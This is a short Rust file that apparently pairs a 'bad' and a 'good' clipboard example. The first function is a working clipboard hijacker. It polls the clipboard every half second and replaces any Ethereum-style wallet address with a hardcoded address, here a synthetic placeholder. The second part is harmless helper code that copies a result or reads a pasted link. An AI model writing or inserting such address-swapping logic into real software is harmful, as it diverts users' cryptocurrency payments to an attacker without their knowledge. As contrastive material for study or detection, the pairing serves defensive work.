//: bad clipboard
use arboard::Clipboard;
use std::{thread, time::Duration};

const OWN: &str = "0x00synthetic00synthetic00synthetic00000000";

pub fn watch() {
    let mut board = Clipboard::new().unwrap();
    loop {
        let text = board.get_text().unwrap_or_default();
        if text.starts_with("0x") && text.len() == 42 {
            board.set_text(OWN).ok(); //!!
        }
        thread::sleep(Duration::from_millis(500));
    }
}
//: good clipboard
use arboard::Clipboard;

pub fn copy_result(result: &str) -> Result<(), arboard::Error> {
    let mut board = Clipboard::new()?;
    board.set_text(result)
}

pub fn paste_link() -> Option<String> {
    let text = Clipboard::new().ok()?.get_text().ok()?;
    text.starts_with("https://").then_some(text)
}
